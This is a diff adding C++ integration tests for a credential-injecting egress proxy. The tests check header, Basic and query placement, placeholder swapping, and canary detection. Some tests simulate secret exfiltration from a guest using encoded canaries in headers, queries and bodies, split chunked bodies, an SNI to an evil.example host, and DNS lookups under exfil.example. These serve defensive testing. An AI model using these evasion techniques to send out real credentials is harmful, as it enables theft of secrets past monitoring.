@@ -1,0 +1,272 @@
+// Where a credential goes and where it may not, end to end (issue 12): a
+// real zerod, curl in a lab guest, echo upstreams that log what arrived.
+//   - placement per rule: a header with a prefix, HTTP Basic, a query
+//     parameter;
+//   - placeholders: the guest's stand-in swapped for the credential only in
+//     requests a rule naming its resource allowed (headers, query, JSON and
+//     form bodies), refused (403, secret:misuse) anywhere else, in several
+//     encodings and split across chunks;
+//   - canaries: a planted fake credential in a header, the query, a body,
+//     the SNI or a DNS name is refused and raises secret:canary and the
+//     zn_secret_alarms_total metric.
+// Every refusal has its positive control: the same request without the
+// tripwire goes through.
+#include <openssl/evp.h>
+
+#include "integration/proxy_fixture.h"
+#include "support/secret_encodings.h"
+
+namespace zn::test {
+namespace {
+
+constexpr const char* kToken = "sk_live_placement_7d1e9c2b4a";
+constexpr const char* kPassword = "pw-basic/secret+9 x";
+constexpr const char* kCanary = "AKIAZNCANARY00001";
+constexpr const char* kCanary2 = "ghp_zncanary_0002";
+
+std::string placement_policy() {
+  return std::string(R"({"policy":{"allow":[
+      {"host":"api.stripe.com","paths":["/hdr/**"],"identity":"cap:stripe","inject":{"header":"X-Api-Key"}},
+      {"host":"api.stripe.com","paths":["/tok/**"],"identity":"cap:stripe",
+       "inject":{"header":"Authorization","prefix":"token "}},
+      {"host":"api.stripe.com","paths":["/basic/**"],"identity":"cap:jira"},
+      {"host":"api.stripe.com","paths":["/q/**"],"identity":"cap:stripe","inject":{"query":"key"}},
+      {"host":"api.stripe.com","paths":["/open/**"]},
+      {"host":"api.github.com","methods":["GET"],"paths":["/repos/**"]}]},
+    "resources":{"stripe":{"kind":"token","token":")") +
+         kToken + R"(","placeholder":"STRIPE_API_KEY"},
+                 "jira":{"kind":"basic","user":"bot","password":")" +
+         kPassword + R"("}},
+    "canaries":[")" +
+         kCanary + R"(",")" + kCanary2 + R"("]})";
+}
+
+std::string base64(const std::string& in) {
+  std::string out(4 * ((in.size() + 2) / 3) + 1, '\0');
+  const int n =
+      EVP_EncodeBlock(reinterpret_cast<unsigned char*>(out.data()),
+                      reinterpret_cast<const unsigned char*>(in.data()), static_cast<int>(in.size()));
+  out.resize(static_cast<size_t>(n));
+  return out;
+}
+
+class SecretUseTest : public ProxyTest {
+ protected:
+  void SetUp() override {
+    ProxyTest::SetUp();
+    if (HasFatalFailure()) return;
+    ASSERT_EQ(dig("api.github.com"), "198.18.0.10\n");
+    ASSERT_EQ(dig("api.stripe.com"), "198.18.0.11\n");
+    json r = call("session.update", {{"id", "user-1"}, {"policy", placement_policy()}});
+    ASSERT_TRUE(r["ok"]) << r.dump();
+    json shown = call("session.show", {{"id", "user-1"}})["result"];
+    placeholder_ = shown["guest_env"].value("STRIPE_API_KEY", "");
+    ASSERT_EQ(placeholder_.rfind("zn_ph_", 0), 0u) << shown.dump();
+  }
+  // The status code of one request (curl's -w), its body discarded.
+  std::string status(const std::string& args) {
+    return curl("-o /dev/null -w '%{http_code}' " + args).output;
+  }
+  // The last request the upstreams logged.
+  json last_upstream_request() {
+    const std::string log = upstream_log();
+    const size_t end = log.find_last_not_of('\n');
+    if (end == std::string::npos) return json::object();
+    const size_t start = log.rfind('\n', end);
+    return json::parse(log.substr(start == std::string::npos ? 0 : start + 1, end + 1 - (start + 1)));
+  }
+  static std::string header(const json& req, const std::string& name) {
+    for (const auto& h : req["headers"])
+      if (h[0].get<std::string>() == name) return h[1];
+    return "<absent>";
+  }
+  // Audit events under `prefix`, once `needle` is among them (or after 5 s).
+  std::string events(const std::string& prefix, const std::string& needle) {
+    std::string out;
+    for (int i = 0; i < 100; ++i) {
+      broker::AuditStore store((dir_ / "state" / "audit.db").string(), broker::AuditStore::Mode::kReadOnly);
+      broker::AuditQuery q;
+      q.event = prefix;
+      out.clear();
+      for (const auto& r : store.query(q)) out += r.event + " " + r.detail.dump() + "\n";
+      if (out.find(needle) != std::string::npos) break;
+      std::this_thread::sleep_for(50ms);
+    }
+    return out;
+  }
+  // Raw bytes over TLS to `ip`:443 with SNI `host`; what came back.
+  std::string raw_tls(const std::string& host, const std::string& ip, const std::string& bytes) {
+    const fs::path f = dir_ / ("raw-" + std::to_string(raw_count_++));
+    std::ofstream(f, std::ios::binary) << bytes;
+    return guest("timeout 10 openssl s_client -quiet -CAfile " + p("guest-trust.pem") + " -connect " + ip +
+                 ":443 -servername " + host + " < " + f.string() + " 2>/dev/null")
+        .output;
+  }
+  std::string placeholder_;
+  int raw_count_ = 0;
+};
+
+TEST_F(SecretUseTest, EachRulePlacesTheCredentialWhereItSays) {
+  // A header of the rule's choosing, the guest's own copy removed.
+  ASSERT_EQ(status("-H 'X-Api-Key: guest-own' https://api.stripe.com/hdr/a"), "200");
+  json req = last_upstream_request();
+  EXPECT_EQ(header(req, "X-Api-Key"), kToken) << req.dump();
+  EXPECT_EQ(req.dump().find("guest-own"), std::string::npos) << req.dump();
+  // Authorization with another scheme.
+  ASSERT_EQ(status("-H 'Authorization: Bearer guest-own' https://api.stripe.com/tok/a"), "200");
+  req = last_upstream_request();
+  EXPECT_EQ(header(req, "Authorization"), std::string("token ") + kToken) << req.dump();
+  // HTTP Basic from the user/password pair.
+  ASSERT_EQ(status("https://api.stripe.com/basic/a"), "200");
+  req = last_upstream_request();
+  EXPECT_EQ(header(req, "Authorization"), "Basic " + base64(std::string("bot:") + kPassword)) << req.dump();
+  // A query parameter: the guest's own of that name (in any spelling) goes.
+  ASSERT_EQ(status("'https://api.stripe.com/q/a?key=guest-own&a=1&k%65y=guest-two'"), "200");
+  req = last_upstream_request();
+  EXPECT_EQ(req["target"], std::string("/q/a?a=1&key=") + kToken) << req.dump();
+  // The guest never got the credential back (the echo reflects headers).
+  const std::string seen =
+      curl("https://api.stripe.com/tok/b").output + curl("https://api.stripe.com/q/b").output;
+  EXPECT_EQ(seen.find(kToken), std::string::npos) << seen;
+}
+
+TEST_F(SecretUseTest, APlaceholderIsSwappedOnlyForItsOwnRule) {
+  const std::string ph = placeholder_;
+  // Header, query, JSON body, form body: each arrives as the credential.
+  ASSERT_EQ(status("-H 'X-Sdk-Key: Bearer " + ph + "' https://api.stripe.com/hdr/h"), "200");
+  EXPECT_EQ(header(last_upstream_request(), "X-Sdk-Key"), std::string("Bearer ") + kToken);
+  ASSERT_EQ(status("'https://api.stripe.com/hdr/q?api_key=" + ph + "&b=2'"), "200");
+  EXPECT_EQ(last_upstream_request()["target"], std::string("/hdr/q?api_key=") + kToken + "&b=2");
+  ASSERT_EQ(status("-H 'Content-Type: application/json' -d '{\"key\":\"" + ph +
+                   "\",\"n\":1}' "
+                   "https://api.stripe.com/hdr/j"),
+            "200");
+  EXPECT_EQ(last_upstream_request()["body"], std::string("{\"key\":\"") + kToken + "\",\"n\":1}");
+  ASSERT_EQ(status("-d 'key=" + ph + "&n=1' https://api.stripe.com/hdr/f"), "200");
+  EXPECT_EQ(last_upstream_request()["body"], std::string("key=") + kToken + "&n=1");
+  // A chunked body with the placeholder split across chunks.
+  const std::string body = "{\"k\":\"" + ph + "\"}";
+  const std::string chunked =
+      "POST /hdr/c HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Type: application/json\r\n"
+      "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" +
+      [&] {
+        std::string out;
+        for (size_t i = 0; i < body.size(); i += 5) {
+          const std::string piece = body.substr(i, 5);
+          char size[8];
+          std::snprintf(size, sizeof size, "%zx", piece.size());
+          out += std::string(size) + "\r\n" + piece + "\r\n";
+        }
+        return out + "0\r\n\r\n";
+      }();
+  EXPECT_NE(raw_tls("api.stripe.com", "198.18.0.11", chunked).find("200 OK"), std::string::npos);
+  EXPECT_EQ(last_upstream_request()["body"], std::string("{\"k\":\"") + kToken + "\"}");
+  const std::string upstream_before = upstream_log();
+
+  // Anywhere else: refused before it leaves, in several encodings.
+  EXPECT_EQ(status("-H 'X-Sdk-Key: " + ph + "' https://api.github.com/repos/a"), "403");
+  EXPECT_EQ(status("'https://api.github.com/repos/a?k=" + ph + "'"), "403");
+  EXPECT_EQ(status("-H 'X-Sdk-Key: " + base64(ph) + "' https://api.github.com/repos/a"), "403");
+  EXPECT_EQ(status("-H 'Content-Type: text/plain' -d 'x" + ph + "' https://api.stripe.com/open/b"), "403");
+  EXPECT_EQ(status("-d 'k=" + ph + "' https://api.stripe.com/open/b"), "403");  // same host, another rule
+  // Split across chunks, to a host whose rule does not name it.
+  std::string misuse = chunked;
+  misuse.replace(misuse.find("/hdr/c"), 6, "/open/c");
+  EXPECT_EQ(raw_tls("api.stripe.com", "198.18.0.11", misuse).find("200 OK"), std::string::npos);
+  // A body past the bound, streamed: stopped before the placeholder goes.
+  const fs::path big = dir_ / "big.body";
+  std::ofstream(big) << std::string(300 * 1024, 'a') << ph << std::string(1000, 'b');
+  EXPECT_EQ(status("--data-binary @" + big.string() + " https://api.stripe.com/open/big"), "403");
+  const std::string upstream_after = upstream_log();
+  EXPECT_EQ(upstream_after.substr(upstream_before.size()).find(ph), std::string::npos);
+  EXPECT_EQ(upstream_after.substr(upstream_before.size()).find(base64(ph)), std::string::npos);
+
+  const std::string misuses = events("secret:misuse", "\"body\"");
+  EXPECT_NE(misuses.find("\"resource\":[\"stripe\"]"), std::string::npos) << misuses;
+  for (const char* where : {"\"header\"", "\"query\"", "\"body\""})
+    EXPECT_NE(misuses.find(where), std::string::npos) << where << "\n" << misuses;
+  EXPECT_EQ(misuses.find(kToken), std::string::npos);
+  // Positive control: the same requests without the placeholder pass.
+  EXPECT_EQ(status("-H 'X-Sdk-Key: zn_ph_nothing' https://api.github.com/repos/a"), "200");
+  EXPECT_EQ(status("-d 'k=plain' https://api.stripe.com/open/b"), "200");
+}
+
+TEST_F(SecretUseTest, ACanaryIsCaughtWhereverItLeaves) {
+  const std::string c = kCanary;
+  // Positive controls first: the same requests without the canary pass.
+  ASSERT_EQ(status("-H 'X-Aws-Key: AKIAPLAINVALUE001' https://api.github.com/repos/a"), "200");
+  ASSERT_EQ(status("-d 'k=plain' https://api.stripe.com/open/b"), "200");
+  ASSERT_EQ(dig("api.github.com"), "198.18.0.10\n");
+
+  EXPECT_EQ(status("-H 'X-Aws-Key: " + c + "' https://api.github.com/repos/a"), "403");
+  EXPECT_EQ(status("'https://api.github.com/repos/a?id=" + c + "'"), "403");
+  EXPECT_EQ(status("'https://api.github.com/repos/" + c + "'"), "403");
+  EXPECT_EQ(status("-d '{\"aws\":\"" + c +
+                   "\"}' -H 'Content-Type: application/json' https://api.stripe.com/open/b"),
+            "403");
+  // Encoded: base64 in a header, percent-encoded in the query, in a body to
+  // a host the policy denies anyway (the alarm is raised all the same).
+  EXPECT_EQ(
+      status("-H 'X-Blob: " + base64(std::string("user:") + kCanary2) + "' https://api.github.com/repos/a"),
+      "403");
+  EXPECT_EQ(status("'https://api.github.com/repos/a?id=ghp%5Fzncanary%5F0002'"), "403");
+  EXPECT_EQ(status("'https://api.github.com/repos/a?id=%41KIA%5ANCANARY0000%31'"),
+            "403");  // any byte escaped
+  EXPECT_EQ(status("-H 'Content-Type: application/json' -d '{\"k\":\"\\u0041KIAZNCANARY00001\"}' "
+                   "https://api.stripe.com/open/b"),
+            "403");
+  EXPECT_EQ(status("-H 'X-Aws-Key: " + c + "' https://api.github.com/nowhere"), "403");
+  // SNI: the connection is reset before anything is answered.
+  auto sni = guest("curl -s -m 5 -o /dev/null -w '%{http_code}' --cacert " + p("guest-trust.pem") +
+                   " --resolve " + c + ".evil.example:443:198.18.0.13 https://" + c + ".evil.example/");
+  EXPECT_EQ(sni.output, "000") << sni.output;
+  // DNS: whole, split across labels and case-folded, and hex-encoded.
+  EXPECT_EQ(dig(c + ".exfil.example"), "");
+  EXPECT_EQ(dig("akiaz.ncanary00001.exfil.example"), "");
+  std::string hex;
+  for (unsigned char ch : std::string(kCanary2)) {
+    char b[3];
+    std::snprintf(b, sizeof b, "%02x", ch);
+    hex += b;
+  }
+  EXPECT_EQ(dig(hex.substr(0, 20) + "." + hex.substr(20) + ".api.github.com"), "");
+
+  const std::string alarms = events("secret:canary", "\"dns\"");
+  for (const char* where : {"\"header\"", "\"query\"", "\"path\"", "\"body\"", "\"sni\"", "\"dns\""})
+    EXPECT_NE(alarms.find(where), std::string::npos) << where << "\n" << alarms;
+  EXPECT_GE(count(alarms, "secret:canary"), 10u) << alarms;
+  auto m = run_in_netns(lab_->host_netns(), "curl -s -m 3 http://127.0.0.1:19464/metrics");
+  EXPECT_EQ(m.output.find("zn_secret_alarms_total{event=\"secret:canary\"} 0\n"), std::string::npos)
+      << m.output;
+  EXPECT_NE(m.output.find("zn_secret_alarms_total{event=\"secret:canary\"} "), std::string::npos) << m.output;
+}
+
+// After credentials were placed, swapped and reflected: none of them, raw,
+// base64 or hex, in what the guest received, zerod's log, the audit store or
+// the state directory (resources are sealed there).
+TEST_F(SecretUseTest, NoCredentialRestsOutsideZerodsMemory) {
+  std::string guest_saw;
+  for (const std::string& args :
+       {std::string("https://api.stripe.com/hdr/a"), std::string("https://api.stripe.com/tok/a"),
+        std::string("https://api.stripe.com/basic/a"), std::string("https://api.stripe.com/q/a"),
+        "-d 'k=" + placeholder_ + "' https://api.stripe.com/hdr/f",
+        "-H 'X-K: " + placeholder_ + "' https://api.stripe.com/hdr/reflect/headers"})
+    guest_saw += curl("-i " + args).output;
+  ASSERT_NE(guest_saw.find("200 OK"), std::string::npos) << guest_saw;
+  ASSERT_GE(count(upstream_log(), kToken), 5u) << upstream_log();  // it did go out, where it should
+  events("egress:", "/hdr/reflect/headers");
+  std::string at_rest = slurp(dir_ / "zerod.log");
+  for (const auto& f : fs::recursive_directory_iterator(dir_ / "state"))
+    if (f.is_regular_file()) at_rest += slurp(f.path());
+  for (const std::string& secret :
+       {std::string(kToken), std::string(kPassword), std::string("bot:") + kPassword})
+    for (const std::string& e : encodings_of(secret)) {
+      EXPECT_EQ(guest_saw.find(e), std::string::npos) << e;
+      EXPECT_EQ(at_rest.find(e), std::string::npos) << e;
+    }
+  // Positive control: the placeholder is the guest's to know, and is in the state file.
+  EXPECT_NE(at_rest.find(placeholder_), std::string::npos);
+}
+
+}  // namespace
+}  // namespace zn::test
